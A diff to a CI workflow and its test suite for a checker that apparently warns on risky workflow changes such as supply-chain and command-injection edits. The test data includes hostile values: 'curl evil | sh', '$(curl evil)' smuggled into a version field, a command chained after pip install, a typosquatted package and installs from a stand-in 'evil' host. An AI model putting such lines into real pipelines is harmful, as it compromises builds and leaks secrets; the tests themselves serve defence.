@@ -10,6 +10,8 @@ jobs:
     timeout-minutes: 10
     env: {TOKEN: "\${{ secrets.TOKEN }}"}
     steps:
+      - name: tools
+        run: pip install ansible
       - name: checkout
         uses: actions/checkout@v3
       - name: go
@@ -36,6 +38,7 @@ describe('a pipeline', () => {
     ['more time', 'timeout-minutes: 10', 'timeout-minutes: 30'],
     ['another tag of an action', 'checkout@v3', 'checkout@v4.1.0'],
     ['another version of a tool', "go-version: '1.20'", "go-version: '1.21'"],
+    ['a pinned package', 'pip install ansible', 'pip install ansible==12.0.0'],
   ])('is quiet, with a line among the changes, for %s', (_, from, to) => {
     expect(review(WORKFLOW, WORKFLOW.replace(from, to))).toEqual({ answer: 'same', severities: [], files: [PATH] });
   });
@@ -47,6 +50,10 @@ describe('a pipeline', () => {
     ['a version that is a program', "go-version: '1.20'", "go-version: '$(curl evil)'"],
     ['a name with an expression', 'name: release', `name: "\${{ github.event.title }}"`],
     ['another command', 'run: make publish', 'run: curl evil | sh'],
+    ['another package', 'pip install ansible', 'pip install ansibel==12.0.0'],
+    ['another index of packages', 'pip install ansible', 'pip install --index-url=https://evil ansible==12.0.0'],
+    ['a package from elsewhere', 'pip install ansible', 'pip install git+https://evil/ansible'],
+    ['a command next to a package', 'pip install ansible', 'pip install ansible==12.0.0; curl evil'],
     ['another event', 'push: {tags', 'pull_request_target: {tags'],
   ])('is told for %s', (_, from, to) => {
     expect(review(WORKFLOW, WORKFLOW.replace(from, to)).severities).toEqual(['warning']);
